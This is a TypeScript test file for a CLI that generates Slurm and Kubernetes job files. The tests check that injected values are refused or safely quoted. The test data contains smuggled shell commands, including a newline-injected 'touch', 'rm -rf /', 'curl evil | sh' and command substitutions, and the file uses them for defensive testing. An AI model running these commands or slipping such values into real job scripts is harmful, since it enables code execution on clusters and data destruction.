// Issue 19 item 18: values that reach a job script or manifest. `--out $'x\ntouch PWNED #'` used to end
// the sbatch comment it is printed in, run `touch PWNED` in every task, and (being a command) end the
// #SBATCH header before --array. Control characters are refused, the scheduler's fields are checked
// against their grammars (sbatch's --time/--mem, Kubernetes quantities, Docker image references), and
// relative paths are made absolute (Slurm) or refused (Kubernetes).
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { indexedJob } from '../../src/aura/launch/k8s-job';
import { sbatchScript } from '../../src/aura/launch/slurm';
import { runCli } from '../helpers/cli';
import { scratchDir } from '../helpers/scratch';
import type { K8sOptions } from '../../src/aura/launch/k8s-job';
import type { SlurmOptions } from '../../src/aura/launch/slurm';

const SLURM: SlurmOptions = { model: '/m', data: '/d.jsonl', out: '/scratch/run', shards: 4, profileArgs: [], name: 'aura', cli: 'aura-lens' };
const K8S: K8sOptions = { model: '/m', data: '/d.jsonl', out: '/work/run', shards: 2, profileArgs: [], image: 'img', name: 'aura', namespace: 'default', parallelism: 2, backoffLimitPerIndex: 3, mount: '/work' };

/** sbatch reads #SBATCH lines only until the first command: every one must come before it. */
function headerIntact(script: string): void {
  const lines = script.split('\n');
  const firstCommand = lines.findIndex((l, i) => i > 0 && l.trim() !== '' && !l.startsWith('#'));
  const lastDirective = lines.map((l) => l.startsWith('#SBATCH')).lastIndexOf(true);
  assert.ok(lastDirective < firstCommand, `an #SBATCH line after the first command:\n${script}`);
  assert.equal(lines[firstCommand], 'set -euo pipefail');
  assert.equal(lines.filter((l) => l.trim() !== '' && !l.startsWith('#')).length, 2, `commands other than set and exec:\n${script}`);
}

/** Throws one line whose message matches `want` (the message alone, not "Name: message"). */
function throwsLine(fn: () => unknown, want: RegExp, what?: string): void {
  assert.throws(fn, (e: Error) => {
    assert.match(e.message, want, what);
    assert.equal(e.message.split('\n').length, 1, e.message);
    return true;
  }, what);
}

describe('launch: no value reaches a script or manifest unchecked', () => {
  it('the CLI refuses the injection in one line, writes nothing, and nothing runs', () => {
    const d = scratchDir('inject');
    const file = join(d, 'job.sbatch');
    const pwned = join(d, 'PWNED');
    const r = runCli(['launch', 'slurm', '/m', '--data', '/d', '--out', `x\ntouch ${pwned} #`, '--shards', '2', '--file', file], { cwd: d });
    assert.equal(r.status, 1, r.stderr);
    assert.match(r.stderr, /^aura-lens: --out: holds the control character U\+000A at position \d+; expected one line/);
    assert.equal(r.stderr.trim().split('\n').length, 1, r.stderr);
    assert.equal(existsSync(file), false);
    assert.equal(existsSync(pwned), false);
  });

  it('a control character anywhere a value goes is refused, naming where', () => {
    const cases: [Partial<SlurmOptions>, RegExp][] = [
      [{ out: '/a\nb' }, /^--out: holds the control character U\+000A/],
      [{ out: '/a\rb' }, /^--out: holds the control character U\+000D/],
      [{ data: '/d\u0000.jsonl' }, /^--data: holds the control character U\+0000/],
      [{ model: '/m\u001b[2J' }, /^MODEL_DIR: holds the control character U\+001B/],
      [{ model: '/m\u2028x' }, /^MODEL_DIR: holds the control character U\+2028/],
      [{ profileArgs: ['--sites', 'a\nrm -rf /'] }, /^profile option 2 after "--": holds the control character U\+000A/],
      [{ cli: 'aura-lens\ncurl evil | sh' }, /^--cli: holds the control character U\+000A/],
      [{ name: 'a\nb' }, /^--name: "a\\nb" is not a valid value for sbatch/],
      [{ partition: 'gpu\n#SBATCH --x' }, /^--partition: "gpu\\n#SBATCH --x" is not a valid value/],
    ];
    for (const [change, want] of cases) {
      throwsLine(() => sbatchScript({ ...SLURM, ...change }), want);
    }
    throwsLine(() => indexedJob({ ...K8S, out: '/w/\tx' }), /^--out: holds the control character U\+0009/);
    throwsLine(() => indexedJob({ ...K8S, mount: '/w\n' }), /^--mount: holds the control character U\+000A/);
    throwsLine(() => indexedJob({ ...K8S, name: 'a\nb' }), /^--name: "a\\nb" is not a valid Job name/);
  });

  it('printable values with every shell metacharacter keep the #SBATCH header whole and run nothing else', () => {
    for (const out of ["/s/it's #here", '/s/$(touch x)', '/s/`id`;ls', '/s/a b #SBATCH --array=0-0', '/s/"q"\\']) {
      const script = sbatchScript({ ...SLURM, out, data: `${out}/d.csv`, profileArgs: ['--sites', out] });
      headerIntact(script);
      assert.match(script, /^#SBATCH --array=0-3$/m);
    }
  });

  it('--time and --mem follow sbatch\'s grammar', () => {
    for (const time of ['30', '1:30', '02:00:00', '1-0', '1-12:30', '2-12:30:00', 'UNLIMITED', 'infinite']) assert.doesNotThrow(() => sbatchScript({ ...SLURM, time }), time);
    for (const time of ['two hours', '1h', '1:2:3:4', '-5', '1-', '']) throwsLine(() => sbatchScript({ ...SLURM, time }), /^--time: ".*" is not a Slurm time limit/, time);
    for (const mem of ['32G', '32g', '4096', '1T', '512M']) assert.doesNotThrow(() => sbatchScript({ ...SLURM, mem }), mem);
    for (const mem of ['32GB', '32GiB', '0', '0G', '1.5G', '-1', 'lots', '']) throwsLine(() => sbatchScript({ ...SLURM, mem }), /^--mem: ".*" is not a Slurm memory size/, mem);
  });

  it('--image, --cpu and --memory follow the image reference and Kubernetes quantity grammars', () => {
    const digest = `@sha256:${'a'.repeat(64)}`;
    for (const image of ['img', 'ubuntu:24.04', 'ghcr.io/aura-lens/aura-lens:cuda', 'localhost:5000/a/b_c__d-e', `ghcr.io/x/y${digest}`, `x/y:1.0${digest}`, 'Registry.Example.com/x']) {
      assert.doesNotThrow(() => indexedJob({ ...K8S, image }), image);
    }
    for (const image of ['Ubuntu', 'a b', 'img:', 'img:-x', 'x//y', 'x/Y', '-x', 'img@sha256:12', 'img;rm -rf /']) {
      throwsLine(() => indexedJob({ ...K8S, image }), /^--image: ".*" is not a container image reference/, image);
    }
    for (const cpu of ['2', '500m', '0.5', '1.5', '2e3']) assert.doesNotThrow(() => indexedJob({ ...K8S, cpu }), cpu);
    for (const cpu of ['two', '-1', '0', '1 cpu', '5 m', '']) throwsLine(() => indexedJob({ ...K8S, cpu }), /^--cpu: ".*" is not a Kubernetes quantity/, cpu);
    for (const memory of ['16Gi', '512Mi', '1G', '1e9', '128974848']) assert.doesNotThrow(() => indexedJob({ ...K8S, memory }), memory);
    for (const memory of ['16GB', '16gi', '-1Gi', '0Gi', 'lots', '1Gi\n']) throwsLine(() => indexedJob({ ...K8S, memory }), /^--memory: ".*" is not a Kubernetes quantity/, memory);
    throwsLine(() => indexedJob({ ...K8S, pvc: 'My Claim' }), /^--pvc: "My Claim" is not a valid claim name/);
  });

  it('a Kubernetes Job refuses relative paths (a pod does not start in this folder)', () => {
    for (const [change, flag] of [[{ model: 'models/gpt2' }, 'MODEL_DIR'], [{ data: 'd.jsonl' }, '--data'], [{ out: 'runs/1' }, '--out'], [{ mount: 'work' }, '--mount']] as const) {
      throwsLine(() => indexedJob({ ...K8S, ...change }), new RegExp(`^${flag}: ".*" is a relative path; .*absolute path`));
    }
    const r = runCli(['launch', 'k8s', 'models/gpt2', '--data', '/d', '--out', '/o', '--shards', '2', '--image', 'img', '--file', join(scratchDir('k8s-rel'), 'j.json')]);
    assert.equal(r.status, 1, r.stderr);
    assert.match(r.stderr, /MODEL_DIR: "models\/gpt2" is a relative path/);
  });

  it('a Slurm script gets relative paths made absolute from where launch runs, and the job still runs each shard', () => {
    const d = scratchDir('slurm-rel');
    mkdirSync(join(d, 'data'));
    const fake = join(d, 'fake-aura-lens');
    writeFileSync(fake, `#!/bin/bash\nprintf '%s\\n' "$@" > "${d}/args-$SLURM_ARRAY_TASK_ID"\n`);
    chmodSync(fake, 0o755);
    const r = runCli(['launch', 'slurm', 'models/m', '--data', 'data/t.jsonl', '--out', 'runs/1', '--shards', '2', '--cli', fake, '--file', 'job.sbatch', '--json'], { cwd: d });
    assert.equal(r.status, 0, r.stderr);
    assert.equal(r.json!.merge, `aura-lens merge ${d}/runs/1/shard-{0..1} --out ${d}/runs/1/merged`);
    const script = readFileSync(join(d, 'job.sbatch'), 'utf8');
    headerIntact(script);
    // Run from another folder, as sbatch may be: the paths do not depend on it.
    const run = spawnSync('bash', [join(d, 'job.sbatch')], { encoding: 'utf8', cwd: '/', env: { ...process.env, SLURM_ARRAY_TASK_ID: '1' } });
    assert.equal(run.status, 0, run.stderr);
    assert.deepEqual(readFileSync(join(d, 'args-1'), 'utf8').split('\n').slice(0, -1), ['profile', `${d}/models/m`, '--data', `${d}/data/t.jsonl`, '--shard', '1/2', '--out', `${d}/runs/1/shard-1`]);
  });
});
